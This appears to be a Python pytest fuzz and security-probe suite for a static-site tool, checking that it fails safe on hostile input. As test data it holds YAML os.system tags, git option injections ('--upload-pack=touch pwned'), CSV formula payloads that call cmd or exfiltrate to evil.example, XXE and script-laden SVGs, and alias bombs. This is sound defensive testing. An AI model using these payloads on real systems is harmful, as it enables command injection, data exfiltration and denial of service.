"""A seeded mutation run over the demo's YAML: whatever the files hold, `build.py check`
ends in bounded time with exit code 0 or 1, no traceback, and every finding has a
file and a line.

Besides mutating YAML, seeded probes try what issue 24 found on the output side, and
each must fail safe: `--out` at the project, a source folder, an ancestor or a
stranger's folder (exit 2, nothing deleted); git option values in `--since` and
`changes_since` (refused, no file touched); line breaks in the one-line fields vCards
carry (RK102); formula prefixes in every CSV (each cell read back inert); hostile SVG
logos (RK017/RK005, nothing fetched or leaked); reserved, Windows and over-long slugs
(RK104); control characters in content pages (RK003).

`make test` runs a quick sample that covers every kind once; REFERKIT_MUTATIONS=700 runs
700 cases (the seed is REFERKIT_MUTATION_SEED, default 15); REFERKIT_MUTATION_ONLY=159,172
replays those cases.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import shutil
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest
from helpers.project import REPO, TODAY, git

CASES = int(os.environ.get("REFERKIT_MUTATIONS", "27"))  # every kind once
SEED = int(os.environ.get("REFERKIT_MUTATION_SEED", "15"))
TIMEOUT = 30  # seconds per case; a check takes about 1 s, 5 s on a loaded machine
BUILD_TIMEOUT = 180  # a probe that builds the demo (PDFs off)
SECRET = "TOP-SECRET-8c1f"  # the content of a file outside the project

ODD_CHARACTERS = [
    "\x00", "\x07", "\x1b", "\x7f", "\x80", "\x85", "\x9f", "\u2028", "\u2029", "\ufdd0",
    "\ufffe", "\uffff", "\U0001fffe", "\u202e", "\u2066",
]  # fmt: skip
HARMLESS_CHARACTERS = ["\u200f", "\u200b", "\ufeff", "é", "\u0301", "😀", "\u00a0", "𝔘", "«"]
TYPE_SWAPS = [
    "true", "false", "null", "~", "''", '""', "0", "-1", "3.5", "1e999", "[]", "{}",
    "[a, b]", "{x: 1}", "'[/x]'", "2026-10-01", "-", "|", ">", "'12'", "[[[]]]",
]  # fmt: skip
TAGS = [
    "!!python/object/apply:os.system ['echo pwned']",
    "!!python/name:os.system",
    "!custom value",
    "!!binary aGVsbG8=",
    "!!set {a, b}",
    "!!omap [a: 1]",
    "!ENV HOME",
]
BAD_DATES = ["2026-02-30", "2026-13-01", "2026-00-10", "0000-01-01", "2026-04-31", "2025-02-29"]
BAD_BYTES = [b"\xff", b"\xfe", b"\xc3", b"\xe2\x82", b"\xed\xa0\x80", b"\xc0\xaf", b"\x80"]
# mutations after which check must fail: the input is not acceptable
MUST_FAIL = {"odd_unicode", "yaml_tag", "alias_bomb", "non_utf8", "impossible_date", "symlink"}
MUST_FAIL |= {"huge_value", "recursive_alias", "deep_nesting", "huge_number", "bool_days"}
# the issue 24 probes that end in `check`: each must fail with its own code
EXPECTED_CODES = {
    "vcard_break": {"RK102", "RK003"},
    "hostile_svg": {"RK017", "RK005", "RK016"},
    "reserved_slug": {"RK104"},
    "content_control": {"RK003", "RK483"},
}
MUST_FAIL |= set(EXPECTED_CODES)


@dataclass
class Case:
    number: int
    kind: str
    detail: str


def _yaml_files(project: Path) -> list[Path]:
    return sorted((project / "service_lines").glob("*.yaml"))


def _service_line_files(project: Path) -> list[Path]:
    return [p for p in _yaml_files(project) if not p.name.startswith("_")]


def _value_lines(text: str) -> list[int]:
    lines = text.split("\n")
    return [i for i, line in enumerate(lines) if re.match(r"^\s*(?:- )?[\w-]+: \S", line)]


def _mutate(project: Path, rng: random.Random, kind: str, outside: Path) -> str:
    """Apply one mutation of ``kind`` to a random demo file; returns what was done."""
    path = rng.choice(_yaml_files(project))
    name = path.name
    raw = path.read_bytes()
    text = raw.decode("utf-8")
    lines = text.split("\n")
    candidates = _value_lines(text) or [0]
    index = rng.choice(candidates)

    def set_value(new: str) -> None:
        key = re.match(r"^(\s*(?:- )?[\w-]+:) ", lines[index])
        prefix = key.group(1) if key else lines[index]
        lines[index] = f"{prefix} {new}"

    if kind == "type_swap":
        new = rng.choice(TYPE_SWAPS)
        set_value(new)
        detail = f"{name}:{index + 1} value -> {new}"
    elif kind == "delete_key":
        del lines[index]
        detail = f"{name}:{index + 1} deleted"
    elif kind == "truncate":
        cut = rng.randrange(0, len(raw))
        path.write_bytes(raw[:cut])
        return f"{name} truncated at byte {cut}"
    elif kind == "odd_unicode":
        char = rng.choice(ODD_CHARACTERS)
        escaped = rng.random() < 0.4
        if escaped:
            code = ord(char)
            escape = f"\\u{code:04x}" if code <= 0xFFFF else f"\\U{code:08x}"
            set_value(f'"odd {escape} text"')
        else:
            at = rng.randrange(len(text))
            lines = (text[:at] + char + text[at:]).split("\n")
        detail = f"{name} U+{ord(char):04X} {'escaped' if escaped else 'raw'}"
    elif kind == "harmless_unicode":
        char = rng.choice(HARMLESS_CHARACTERS)
        set_value(f"Text {char} here")
        detail = f"{name}:{index + 1} U+{ord(char[0]):04X}"
    elif kind == "huge_value":
        size = rng.choice([10_001, 50_000, 400_000, 2_000_000])
        set_value("x" * size)
        detail = f"{name}:{index + 1} {size} characters"
    elif kind == "huge_number":
        digits = rng.choice([4_301, 10_000, 50_000])
        set_value("9" * digits)
        detail = f"{name}:{index + 1} {digits} digits"
    elif kind == "yaml_tag":
        tag = rng.choice(TAGS)
        set_value(tag)
        detail = f"{name}:{index + 1} {tag}"
    elif kind == "alias_bomb":
        depth = rng.choice([6, 9, 12])
        bomb = ["lol0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
        bomb += [f"lol{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 10)}]" for i in range(1, depth + 1)]
        lines = [*bomb, *lines]
        detail = f"{name} alias bomb of depth {depth}"
    elif kind == "recursive_alias":
        lines = (
            ["loop: &loop {a: *loop}", *lines]
            if rng.random() < 0.5
            else [
                "loop: &loop [*loop, [*loop]]",
                *lines,
            ]
        )
        detail = f"{name} recursive alias"
    elif kind == "deep_nesting":
        depth = rng.choice([50, 500, 5000])
        lines = ["deep: " + "[" * depth + "]" * depth, *lines]
        detail = f"{name} nesting {depth}"
    elif kind == "non_utf8":
        bad = rng.choice(BAD_BYTES)
        at = rng.randrange(len(raw))
        path.write_bytes(raw[:at] + bad + raw[at:])
        return f"{name} byte(s) {bad!r} at {at}"
    elif kind == "impossible_date":
        date = rng.choice(BAD_DATES)
        if "last_reviewed:" in text:
            text = re.sub(r"last_reviewed: \S+", f"last_reviewed: {date}", text)
            lines = text.split("\n")
        else:
            lines = [f"founded: {date}", *lines]
        detail = f"{name} date {date}"
    elif kind == "bool_days":
        # booleans are not numbers, and numbers are not booleans
        text, count = re.subn(
            r"(seen_within_days|consult_note_within_days|lat): [-\d.]+", r"\1: true", text
        )
        if not count:
            text, count = re.subn(r"(accepting_new_patients|required): true", r"\1: 1", text)
        if not count:
            text = "seen_within_days: true\n" + text
        lines = text.split("\n")
        detail = f"{name} a number written as true, or true as 1"
    elif kind == "markup_key":
        key = rng.choice(["'[/x]'", "'[bold red]'", "'[link=javascript:alert(1)]x'", "'[/]'"])
        lines.insert(index, f"{key}: 1")
        detail = f"{name}:{index + 1} key {key}"
    elif kind == "indent_shift":
        shift = rng.choice([-3, -1, 1, 2, 5])
        stripped = lines[index].lstrip(" ")
        indent = max(0, len(lines[index]) - len(stripped) + shift)
        lines[index] = " " * indent + stripped
        detail = f"{name}:{index + 1} indent {shift:+d}"
    elif kind == "duplicate_line":
        lines.insert(index, lines[index])
        detail = f"{name}:{index + 1} duplicated"
    elif kind == "many_keys":
        count = rng.choice([60, 500, 20_000])
        lines += [f"unknown_field_{i}: x" for i in range(count)]
        detail = f"{name} {count} unknown keys"
    elif kind == "symlink":
        target = rng.choice([outside / "secret.txt", outside / "secret.yaml", outside])
        victim = (
            project / "service_lines" / rng.choice([name, "zz-link.yaml", "_organization.yaml"])
        )
        victim.unlink(missing_ok=True)
        if target.is_dir():
            shutil.rmtree(project / "service_lines")
            (project / "service_lines").symlink_to(target)
            return "service_lines/ -> a folder outside the project"
        victim.symlink_to(target)
        return f"{victim.name} -> {target.name} outside the project"
    elif kind == "vcard_break":
        return _mutate_vcard_break(project, rng)
    elif kind == "hostile_svg":
        return _mutate_hostile_svg(project, rng, outside)
    elif kind == "reserved_slug":
        return _mutate_reserved_slug(project, rng)
    elif kind == "content_control":
        return _mutate_content_control(project, rng)
    else:  # pragma: no cover
        raise AssertionError(kind)
    path.write_text("\n".join(lines), encoding="utf-8", errors="surrogatepass")
    return detail


# --- issue 24 probes: the output side fails safe --------------------------------------


def _tree(*folders: Path) -> dict[str, bytes]:
    """Every file's bytes under ``folders`` (git's own files left out)."""
    files = {}
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and ".git" not in path.relative_to(folder).parts:
                files[str(path)] = path.read_bytes()
    return files


def _build_py(*args: str, timeout: int = TIMEOUT, cwd: Path | None = None):
    return subprocess.run(
        [sys.executable, str(REPO / "build.py"), *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        errors="replace",
        cwd=cwd,
    )


def _git_init(project: Path) -> None:
    for args in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "demo"]):
        git(project, *args)


def _set_option(project: Path, line: str) -> None:
    """Add ``line`` (e.g. ``pdf: false``) to the referkit plugin options."""
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    assert "  - referkit:\n" in text
    config.write_text(text.replace("  - referkit:\n", f"  - referkit:\n      {line}\n", 1))


def _probe_out_guard(project: Path, rng: random.Random, outside: Path) -> tuple[str, str | None]:
    """`--out` at what a build must never replace: exit 2, not one file changed."""
    checkout = outside / "gh-pages"
    (checkout / ".git").mkdir(parents=True)
    (checkout / "index.html").write_text("<p>published by hand</p>")
    target, extra = rng.choice(
        [
            (project, ()),
            (project / "service_lines", ()),
            (project / "content", ()),
            (project / "templates", ("--force",)),
            (project / ".referkit", ()),
            (project.parent, ()),
            (outside, ()),  # a stranger's non-empty folder, without --force
            (checkout, ("--force",)),  # a repository, even with --force
        ]
    )
    (project / ".referkit").mkdir(exist_ok=True)
    before = _tree(project, outside)
    result = _build_py("build", "--project", str(project), "--out", str(target), *extra)
    detail = f"--out {target.name} {' '.join(extra)}".strip()
    if result.returncode != 2 or f"error: --out {target.resolve()}" not in result.stderr:
        return detail, f"exit code {result.returncode}, not 2 with why: {result.stderr[-300:]}"
    if _tree(project, outside) != before:
        return detail, "files changed or deleted"
    return detail, None


GIT_OPTION_VALUES = [
    "--output=F",
    "--output=../F",
    "-oF",
    "--exec=touch pwned",
    "--upload-pack=touch pwned",
    "--remote=ext::sh -c touch% pwned",
    "-c",
    "--output={secret}",
]


def _probe_git_option(project: Path, rng: random.Random, outside: Path) -> tuple[str, str | None]:
    """A git option as the revision: refused (usage error or RK491), no file touched."""
    (project / "F").write_text("the practice's own file\n")
    _git_init(project)
    value = rng.choice(GIT_OPTION_VALUES).format(secret=outside / "secret.txt")
    mode = rng.choice(["--since", "changes_since"])
    before = _tree(project, outside)
    if mode == "--since":
        out = outside.parent / f"{outside.name}-site"
        result = _build_py(
            "build", "--project", str(project), "--out", str(out), f"--since={value}"
        )
        expected = 2
    else:
        _set_option(project, f"changes_since: {json.dumps(value)}")
        before = _tree(project, outside)
        result = _build_py("check", "--project", str(project), "--format", "json")
        expected = 1
    detail = f"{mode} {value!r}"
    if result.returncode != expected:
        return detail, f"exit code {result.returncode}, not {expected}: {result.stderr[-300:]}"
    if expected == 1 and '"RK491"' not in result.stdout:
        return detail, "no RK491 finding"
    if _tree(project, outside) != before or (project / "pwned").exists():
        return detail, "git wrote a file"
    return detail, None


VCARD_BREAKS = [
    "Main\rBEGIN:VCARD\rTEL:+19005550199\rEND:VCARD",
    "Main\nURL:https://evil.example/",
    "Main\r\nTEL;TYPE=work:+19005550199",
    "Main\u2028Campus",
    "Main\x85Campus",
    "Main\x0bCampus",
]


def _value_spans(text: str, fields: str) -> list[tuple[int, int]]:
    """Where the values of ``fields`` (a regex alternation) are written: to the end of
    the line in block style, to the next comma or brace inside ``{…}``."""
    block = re.compile(rf"^\s*(?:- )?(?:{fields}): (?![{{\[])(.+?)\s*(?:#.*)?$", re.M)
    flow = re.compile(rf"[{{,]\s*(?:{fields}): ([^,}}\n]+)")
    return [m.span(1) for m in block.finditer(text)] + [m.span(1) for m in flow.finditer(text)]


def _mutate_vcard_break(project: Path, rng: random.Random) -> str:
    """A line break in a field a vCard carries on one line."""
    path = project / "service_lines" / "_organization.yaml"
    text = path.read_text(encoding="utf-8")
    field = rng.choice(["name", "street", "city", "region", "credentials"])
    start, end = rng.choice(_value_spans(text, field))
    value = rng.choice(VCARD_BREAKS)
    text = text[:start] + json.dumps(value) + text[end:]
    path.write_text(text, encoding="utf-8")
    return f"{field} -> {value!r}"


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example/")',
    "-x",
    "+1 608-555-0199 ext =1",
]


def _inert(rows: list[list[str]], value: str) -> str | None:
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                try:
                    float(cell)
                except ValueError:
                    return f"a live formula cell {cell[:60]!r}"
    if not any("'" + value in row for row in rows):
        return f"{value!r} is not in the CSV as a neutralised cell"
    return None


def _probe_csv_formula(project: Path, rng: random.Random, outside: Path) -> tuple[str, str | None]:
    """A formula in what a CSV carries: every cell read back is inert."""
    value = rng.choice(FORMULAS)
    where = rng.choice(["locations.csv", "links", "reviews"])
    if where == "locations.csv":
        path = project / "service_lines" / "_organization.yaml"
        text = path.read_text(encoding="utf-8")
        start, end = rng.choice(_value_spans(text, "street|city"))
        path.write_text(text[:start] + json.dumps(value) + text[end:])
        _set_option(project, "pdf: false")
        out = outside.parent / f"{outside.name}-site"
        result = _build_py(
            "build", "--project", str(project), "--out", str(out), "--today", TODAY,
            timeout=BUILD_TIMEOUT,
        )  # fmt: skip
        if result.returncode != 0:
            return f"{where} {value!r}", f"build failed: {result.stderr[-400:]}"
        csv_text = (out / "exports" / "locations.csv").read_text(encoding="utf-8")
    elif where == "links":
        path = project / "service_lines" / "_partners.yaml"
        text = path.read_text(encoding="utf-8")
        start, end = rng.choice(_value_spans(text, "name"))
        path.write_text(text[:start] + json.dumps(value) + text[end:])
        result = _build_py("links", "--project", str(project), "--format", "csv", "--today", TODAY)
        csv_text = result.stdout
    else:
        path = rng.choice(_service_line_files(project))
        text = path.read_text(encoding="utf-8")
        text = re.sub(r"reviewed_by: .*", lambda _: f"reviewed_by: {json.dumps(value)}", text)
        path.write_text(text, encoding="utf-8")
        result = _build_py(
            "check", "--project", str(project), "--reviews", "--format", "csv", "--today", TODAY
        )
        csv_text = result.stdout
    detail = f"{where} {value!r}"
    if result.returncode != 0:
        return detail, f"exit code {result.returncode}: {result.stderr[-400:]}"
    return detail, _inert(list(csv.reader(io.StringIO(csv_text))), value)


SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
HOSTILE_SVGS = [
    f"<svg {SVG}><script>alert(document.domain)</script></svg>",
    f'<svg {SVG} onload="alert(1)"><circle r="4"/></svg>',
    f'<svg {SVG}><image href="http://127.0.0.1:9/beacon.png" width="9" height="9"/></svg>',
    f'<svg {SVG}><image xlink:href="{{outside}}/secret.txt" width="9" height="9"/></svg>',
    f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s SYSTEM "{{outside}}/secret.txt">]>'
    f"<svg {SVG}><text>&s;</text></svg>",
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    f"<svg {SVG}><text>&b;</text></svg>",
    f"<svg {SVG}><style>@import url(http://127.0.0.1:9/x.css);</style></svg>",
    f'<?xml-stylesheet href="http://127.0.0.1:9/x.css"?><svg {SVG}/>',
    f"<svg {SVG}><foreignObject><div>x</div></foreignObject></svg>",
    f'<svg {SVG}><a href="javascript:alert(1)"><text>x</text></a></svg>',
    f'<svg {SVG}><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    f'<svg {SVG}><rect style="fill:u\\72l(http://127.0.0.1:9/x)"/></svg>',
    f'<?xml version="1.0" encoding="UTF-7"?><svg {SVG}/>',
    "outside path",
    "outside link",
]


def _mutate_hostile_svg(project: Path, rng: random.Random, outside: Path) -> str:
    logo = project / "templates" / "assets" / "lakeside-logo.svg"
    choice = rng.choice(HOSTILE_SVGS)
    if choice == "outside path":
        shutil.copy(logo, outside / "logo.svg")
        config = project / "mkdocs.yml"
        config.write_text(
            config.read_text().replace(
                "logo: templates/assets/lakeside-logo.svg", f"logo: {outside / 'logo.svg'}"
            )
        )
        return "brand.logo outside the project"
    if choice == "outside link":
        logo.unlink()
        logo.symlink_to(outside / "secret.txt")
        return "logo -> a file outside the project"
    logo.write_text(choice.replace("{outside}", outside.as_uri()), encoding="utf-8")
    return choice[:80]


def _mutate_reserved_slug(project: Path, rng: random.Random) -> str:
    from referkit import urls

    slug = rng.choice(
        [*sorted(urls.RESERVED_SLUGS), *sorted(urls.WINDOWS_RESERVED), "x" * 237, "y" * 250]
    )
    source = rng.choice(_service_line_files(project))
    shutil.copy(source, project / "service_lines" / f"{slug}.yaml")
    return f"service line {slug[:40]}"


def _mutate_content_control(project: Path, rng: random.Random) -> str:
    page = rng.choice(sorted((project / "content").rglob("*.md")))
    char = rng.choice([c for c in ODD_CHARACTERS if not 0xD800 <= ord(c) <= 0xDFFF])
    text = page.read_text(encoding="utf-8")
    at = rng.randrange(len(text))
    page.write_text(text[:at] + char + text[at:], encoding="utf-8")
    return f"content/{page.name} U+{ord(char):04X}"


PROBES = {
    "out_guard": _probe_out_guard,
    "git_option": _probe_git_option,
    "csv_formula": _probe_csv_formula,
}


KINDS = [
    "type_swap", "type_swap", "type_swap", "delete_key", "delete_key", "truncate", "truncate",
    "odd_unicode", "odd_unicode", "harmless_unicode", "huge_value", "huge_number", "yaml_tag",
    "alias_bomb", "recursive_alias", "deep_nesting", "non_utf8", "non_utf8", "impossible_date",
    "bool_days", "markup_key", "indent_shift", "indent_shift", "duplicate_line", "many_keys",
    "symlink", "out_guard", "git_option", "vcard_break", "csv_formula", "hostile_svg",
    "reserved_slug", "content_control",
]  # fmt: skip


def _cases() -> list[Case]:
    """Case N is the same mutation whatever the count, so REFERKIT_MUTATION_ONLY=N replays it."""
    only = {int(n) for n in os.environ.get("REFERKIT_MUTATION_ONLY", "").split(",") if n.strip()}
    rng = random.Random(SEED)
    order = sorted(set(KINDS))  # the quick run covers every kind once before repeating any
    cases = []
    for number in range(max([CASES - 1, *only]) + 1):
        kind = order[number] if number < len(order) else rng.choice(KINDS)
        if not only or number in only:
            cases.append(Case(number, kind, ""))
    return cases


def _run_case(case: Case, root: Path) -> tuple[Case, str | None, float]:
    """Mutate a fresh copy of the demo, run check; returns a problem or None."""
    project = root / f"case-{case.number}"
    project.mkdir(parents=True)
    shutil.copy2(REPO / "mkdocs.yml", project / "mkdocs.yml")
    shutil.copytree(REPO / "service_lines", project / "service_lines")
    shutil.copytree(REPO / "content", project / "content")
    shutil.copytree(REPO / "templates", project / "templates")  # the demo's logo
    outside = root / f"outside-{case.number}"
    outside.mkdir()
    (outside / "secret.txt").write_text(f"{SECRET}\n" * 50, encoding="utf-8")
    (outside / "secret.yaml").write_text(f"name: {SECRET}\n", encoding="utf-8")
    shutil.copy2(REPO / "service_lines" / "_organization.yaml", outside / "_organization.yaml")
    rng = random.Random(SEED * 100_003 + case.number)
    started = time.monotonic()
    if case.kind in PROBES:
        try:
            case.detail, problem = PROBES[case.kind](project, rng, outside)
        except subprocess.TimeoutExpired:
            return case, "no answer in time", time.monotonic() - started
        return case, problem, time.monotonic() - started
    case.detail = _mutate(project, rng, case.kind, outside)
    started = time.monotonic()
    try:
        result = subprocess.run(
            [sys.executable, str(REPO / "build.py"), "check", "--project", str(project)]
            + ["--format", "json", "--today", TODAY],
            capture_output=True,
            text=True,
            timeout=TIMEOUT,
            errors="replace",
        )
    except subprocess.TimeoutExpired:
        return case, f"no answer within {TIMEOUT} s", TIMEOUT
    seconds = time.monotonic() - started
    if "Traceback" in result.stderr:
        return case, "traceback:\n" + result.stderr[-1500:], seconds
    if result.returncode not in (0, 1):
        return case, f"exit code {result.returncode}: {result.stderr[-500:]}", seconds
    if SECRET in result.stdout + result.stderr:
        return case, "printed the content of a file outside the project", seconds
    try:
        payload = json.loads(result.stdout)
    except ValueError:
        return case, f"output is not JSON: {result.stdout[:300]!r}", seconds
    for finding in payload["findings"]:
        if not finding["path"] or finding["line"] < 1 or finding["col"] < 1:
            return case, f"a finding without a position: {finding}", seconds
        if len(finding["message"]) > 400:
            return case, f"a message of {len(finding['message'])} characters", seconds
    if len(payload["findings"]) > 60 * 10:
        return case, f"{len(payload['findings'])} findings", seconds
    if case.kind == "markup_key":  # the table report prints keys too
        table = subprocess.run(
            [sys.executable, str(REPO / "build.py"), "check", "--project", str(project)],
            capture_output=True,
            text=True,
            timeout=TIMEOUT,
            errors="replace",
        )
        if "Traceback" in table.stderr or table.returncode not in (0, 1):
            return case, "the table report failed:\n" + table.stderr[-1500:], seconds
    if case.kind in MUST_FAIL and result.returncode != 1:
        return case, "accepted an input that must be rejected", seconds
    codes = {finding["code"] for finding in payload["findings"]}
    if case.kind in EXPECTED_CODES and not codes & EXPECTED_CODES[case.kind]:
        return case, f"rejected, but not with {sorted(EXPECTED_CODES[case.kind])}: {codes}", seconds
    return case, None, seconds


def test_the_unmutated_copy_is_clean(tmp_path: Path) -> None:
    """The control: without a mutation the copy passes, so a rejection is the mutation's."""
    project = tmp_path / "project"
    project.mkdir()
    shutil.copy2(REPO / "mkdocs.yml", project / "mkdocs.yml")
    for name in ("service_lines", "content", "templates"):
        shutil.copytree(REPO / name, project / name)
    result = _build_py("check", "--project", str(project), "--format", "json", "--today", TODAY)
    assert result.returncode == 0, result.stdout
    assert json.loads(result.stdout)["errors"] == 0


def test_mutated_yaml_never_crashes_hangs_or_leaks(tmp_path: Path) -> None:
    cases = _cases()
    started = time.monotonic()
    with ThreadPoolExecutor(max_workers=2) as pool:
        results = list(pool.map(lambda case: _run_case(case, tmp_path), cases))
    failures = [(case, problem) for case, problem, _ in results if problem]
    slowest = max(seconds for _, _, seconds in results)
    report = "\n".join(
        f"case {case.number} [{case.kind}] {case.detail}: {problem}" for case, problem in failures
    )
    summary = (
        f"{len(cases)} cases (seed {SEED}) in {time.monotonic() - started:.0f} s, "
        f"slowest {slowest:.1f} s, {len(failures)} failed"
    )
    print(summary)
    assert not failures, f"{summary}\n{report}"


if __name__ == "__main__":  # pragma: no cover
    sys.exit(pytest.main([__file__, "-q", "-s"]))
